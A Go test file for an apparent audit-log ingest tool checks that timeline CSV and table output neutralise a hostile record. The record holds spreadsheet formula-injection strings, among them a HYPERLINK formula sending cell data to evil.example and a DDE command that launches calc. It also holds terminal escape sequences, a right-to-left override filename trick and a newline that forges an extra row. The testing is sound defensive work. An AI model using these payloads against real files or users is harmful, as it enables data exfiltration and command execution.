package report_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/o365ingest/o365ingest/ingest/report"
)

// hostileEntry carries issue 11's attack strings in the fields a timeline shows.
var hostileEntry = report.Entry{
	Time:      time.Date(2026, 3, 2, 9, 0, 0, 0, time.UTC),
	RecordID:  "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")",
	Workload:  "@SUM(1+1)",
	Operation: "-2+3",
	Result:    "+cmd|' /C calc'!A0",
	ClientIP:  "\t=1",
	UserID:    "\r=2",
	Role:      "actor",
	Object:    "rule\x1b]0;owned\x07\x1b[2J",
	Detail:    "subject: line one\nFAKE ROW\x9b31m \u202eexe.txt",
}

func TestTimelineCSVPrefixesFormulaCells(t *testing.T) {
	var buf bytes.Buffer
	if err := report.WriteTimeline(&buf, "csv", []report.Entry{hostileEntry}); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("CSV %q %v", rows, err)
	}
	for i, cell := range rows[1] {
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Errorf("column %s = %q: a spreadsheet runs it as a formula", rows[0][i], cell)
		}
	}
	if got := rows[1][1]; got != "'@SUM(1+1)" {
		t.Errorf("workload cell %q, want '@SUM(1+1)", got)
	}
	if got := rows[1][2]; got != "'-2+3" {
		t.Errorf("operation cell %q, want '-2+3", got)
	}
}

func TestTimelineTableShowsControlCharactersAsEscapes(t *testing.T) {
	var buf bytes.Buffer
	if err := report.WriteTimeline(&buf, "table", []report.Entry{hostileEntry}); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	for _, r := range out {
		if (r < 0x20 && r != '\n') || r == 0x7f || (r >= 0x80 && r <= 0x9f) || r == 0x202e || r == '\ufffd' {
			t.Errorf("table holds raw %U:\n%q", r, out)
		}
	}
	if lines := strings.Split(strings.TrimSpace(out), "\n"); len(lines) != 2 {
		t.Errorf("a newline in a record made %d lines, want 2:\n%s", len(lines), out)
	}
	for _, want := range []string{`rule\x1b]0;owned\x07\x1b[2J`, `line one\nFAKE ROW\x9b31m`} {
		if !strings.Contains(out, want) {
			t.Errorf("table lacks %q:\n%s", want, out)
		}
	}
}
